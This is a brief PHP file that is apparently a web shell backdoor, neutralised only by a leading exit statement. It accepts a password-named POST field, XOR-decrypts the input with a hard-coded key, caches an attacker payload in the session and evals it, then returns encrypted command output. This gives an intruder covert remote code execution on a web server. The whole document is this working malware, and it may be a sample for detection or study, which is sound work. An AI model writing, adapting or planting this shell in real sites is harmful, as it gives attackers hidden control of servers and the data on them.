<?php exit; /* inert */ 
@session_start();
@set_time_limit(0);
function enc($D, $K) {
    for ($i = 0; $i < strlen($D); $i++) {
        $c = $K[$i + 1 & 15];
        $D[$i] = $D[$i] ^ $c;
    }
    return $D;
}
$pass = 'pl';
$name = 'payload';
$key = '3c6e0b8a9c15224a';
if (isset($_POST[$pass])) {
    $data = enc(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$name])) {
        $p = enc($_SESSION[$name], $key);
        if (strpos($p, "getBasicsInfo") === false) { $p = enc($p, $key); }
        eval($p);
        echo base64_encode(enc(@run($data), $key));
    } elseif (strpos($data, "getBasicsInfo") !== false) {
        $_SESSION[$name] = enc($data, $key);
    }
}
